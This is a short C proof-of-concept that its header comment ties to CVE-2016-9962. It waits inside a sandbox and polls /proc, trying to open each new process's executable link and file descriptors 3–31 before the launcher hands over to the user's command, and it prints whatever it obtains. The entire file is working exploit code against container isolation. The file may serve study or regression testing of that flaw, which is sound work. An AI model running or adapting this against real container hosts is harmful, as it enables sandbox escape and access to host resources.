/*
 * CVE-2016-9962: waits inside a sandbox for processes that enter it, and tries to get hold of the
 * launcher's program and descriptors before they become their command. Prints what it got.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* PID 1 and the ambush itself are no newcomers. */
enum { FIRST_NEWCOMER = 3 };

static void try_program(int pid) {
    char path[64], target[256];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, target, sizeof target - 1);
    if (length <= 0)
        return;
    target[length] = '\0';
    if (strstr(target, "launcher"))
        printf("exe %s\n", target);
}

static void try_descriptors(int pid) {
    char path[64];
    for (int i = 3; i < 32; i++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, i);
        if (open(path, O_PATH) >= 0)
            printf("fd %d\n", i);
    }
}

int main(void) {
    puts("waiting");
    fflush(stdout);
    for (;;) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; processes && (entry = readdir(processes));) {
            int pid = atoi(entry->d_name);
            if (pid < FIRST_NEWCOMER)
                continue;
            try_program(pid);
            try_descriptors(pid);
        }
        closedir(processes);
        fflush(stdout);
    }
}
